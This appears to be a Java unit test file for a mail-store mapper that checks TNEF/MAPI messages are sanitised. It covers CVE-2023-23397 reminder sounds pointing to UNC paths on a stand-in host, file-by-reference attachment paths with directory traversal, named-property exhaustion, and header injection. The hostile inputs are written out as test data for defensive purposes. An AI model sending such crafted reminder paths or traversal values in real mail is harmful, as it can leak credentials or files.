package org.ropeway.store.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.ropeway.codec.data.Bytes;
import org.ropeway.codec.data.MapiGuid;
import org.ropeway.codec.data.PropertyName;
import org.ropeway.codec.data.PropertyTag;
import org.ropeway.codec.data.PropertyType;
import org.ropeway.codec.property.PidLid;
import org.ropeway.codec.property.PidTag;
import org.ropeway.codec.property.PropertySet;
import org.ropeway.codec.wire.WireWriter;
import org.ropeway.store.NamedProperties;

/** Mails that mean harm, and signed ones that must not be harmed. */
class MailSecurityTest {
  private final MemoryNames names = new MemoryNames();
  private final MailMapper mapper = new MailMapper(MailLimits.DEFAULT, Corpus.OWNER, names);

  /** CVE-2023-23397: a path in a reminder's sound makes Outlook log on there. */
  @Test
  void remindersDoNotReachOut() {
    WireWriter w = WireWriter.of(10_000).u32(6);
    named(w, 0x001F, 0x851F).u32(1);
    string(w, "\\\\evil.example\\share\\x.wav");
    named(w, 0x000B, 0x851C).u16(1).u16(0);
    named(w, 0x0003, 0x8501).u32(15);
    w.u16(0x001F).u16(0x3001).u32(1);
    string(w, "file://evil.example/x");
    w.u16(0x001F).u16(0x3004).u32(1);
    string(w, " \\\\evil.example\\y");
    w.u16(0x001F).u16(0x3A17).u32(1);
    string(w, "Director");
    MessageContent content = mapper.content(withTnef(w.toBytes()));
    content
        .properties()
        .forEach((tag, value) -> assertThat(value.toString()).doesNotContain("evil"));
    assertThat(content.properties().get(PidTag.TITLE)).isEqualTo("Director");
    int[] ids =
        names.idsOf(
            List.of(
                PidLid.REMINDER_FILE_PARAMETER, PidLid.REMINDER_OVERRIDE, PidLid.REMINDER_DELTA),
            false);
    assertThat(ids[0]).isZero();
    assertThat(ids[1]).isZero();
    assertThat(content.properties().get(PropertyTag.of(ids[2], PropertyType.INTEGER32)))
        .isEqualTo(15);
    assertThat(content.attachments()).isEmpty();
  }

  /** No mail fills the map of named properties. */
  @Test
  void unknownNamesGetNoId() {
    MapiGuid own = MapiGuid.parse("11111111-2222-3333-4444-555555555555");
    WireWriter w = WireWriter.of(1 << 20).u32(500);
    for (int i = 0; i < 500; i++) {
      w.u16(0x0003).u16(0x8000 + i);
      MapiGuid.WIRE.write(w, own);
      w.u32(0).u32(i).u32(i);
    }
    int before = names.all().size();
    mapper.content(withTnef(w.toBytes()));
    mapper.content("X-One: 1\r\nX-Two: 2\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    assertThat(names.all()).hasSize(before);
    names.idsOf(List.of(PropertyName.of(own, 7L)), true);
    PropertyName header = PropertyName.of(PropertySet.PS_INTERNET_HEADERS, "x-two");
    int id = names.idsOf(List.of(header), true)[0];
    MessageContent tnef = mapper.content(withTnef(w.toBytes()));
    int known = names.idsOf(List.of(PropertyName.of(own, 7L)), false)[0];
    assertThat(tnef.properties().get(PropertyTag.of(known, PropertyType.INTEGER32))).isEqualTo(7);
    MessageContent plain =
        mapper.content("X-One: 1\r\nX-Two: 2\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    assertThat(plain.properties().get(PropertyTag.of(id, PropertyType.STRING))).isEqualTo("2");
    assertThat(names.all()).extracting(NamedProperties.Entry::id).contains(known, id);
  }

  @Test
  void filesByReferenceAreLeftOut() {
    WireWriter w = WireWriter.of(10_000).u32(3);
    w.u16(0x0003).u16(0x3705).u32(2);
    w.u16(0x001F).u16(0x370D).u32(1);
    string(w, "C:\\secret.txt");
    w.u16(0x001F).u16(0x3707).u32(1);
    string(w, "..\\..\\secret.txt");
    byte[] stream =
        stream(2, 0x00069002, new byte[14], stream(2, 0x00069005, w.toBytes(), new byte[0]));
    MessageContent content = mapper.content(mail(stream));
    assertThat(content.attachments()).hasSize(1);
    assertThat(content.attachments().getFirst().properties().get(PidTag.ATTACH_LONG_FILENAME))
        .isEqualTo("Not shown.txt");
  }

  /** The signature covers these very bytes. */
  @Test
  void signedBytesStay() {
    byte[] mail = Corpus.own("smime-signed");
    String text = new String(mail, StandardCharsets.ISO_8859_1);
    MessageContent content = mapper.content(mail);
    Attachment only = content.attachments().getFirst();
    assertThat(content.attachments()).hasSize(1);
    Bytes data = only.properties().get(PidTag.ATTACH_DATA_BINARY, Bytes.EMPTY);
    String entity = new String(data.unsafeArray(), StandardCharsets.ISO_8859_1);
    String body = text.substring(text.indexOf("\r\n\r\n") + 4);
    assertThat(entity).endsWith("\r\n\r\n" + body);
    assertThat(entity).startsWith("Content-Type: multipart/signed; protocol=");
    assertThat(content.properties().get(PidTag.BODY)).isEqualTo("Signed text ä");
  }

  @Test
  void headersCannotBeInjected() {
    MessageContent content = mapper.content(Corpus.own("control-characters"));
    assertThat(content.properties().get(PidTag.SUBJECT, "")).isEqualTo("a b X-Injected: 1");
  }

  private static WireWriter named(WireWriter w, int type, int lid) {
    w.u16(type).u16(0x8000 | lid);
    MapiGuid.WIRE.write(w, PropertySet.PSETID_COMMON);
    return w.u32(0).u32(lid);
  }

  private static void string(WireWriter w, String s) {
    int length = 2 * s.length() + 2;
    w.u32(length).utf16z(s).zero(-length & 3);
  }

  private static byte[] withTnef(byte[] messageProperties) {
    return mail(stream(1, 0x00069003, messageProperties, new byte[0]));
  }

  /** An attribute before others. */
  private static byte[] stream(int level, int id, byte[] data, byte[] others) {
    int rest = others.length == 0 ? 0 : 6;
    return WireWriter.of(1 << 22)
        .u32(0x223E9F78L)
        .u16(1)
        .u8(level)
        .u32(id)
        .u32(data.length)
        .bytes(data)
        .u16(0)
        .bytes(others, rest, others.length - rest)
        .toBytes();
  }

  private static byte[] mail(byte[] stream) {
    String mail =
        "Subject: t\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\n"
            + "Content-Transfer-Encoding: base64\r\n\r\n"
            + Base64.getMimeEncoder().encodeToString(stream)
            + "\r\n";
    return mail.getBytes(StandardCharsets.US_ASCII);
  }
}
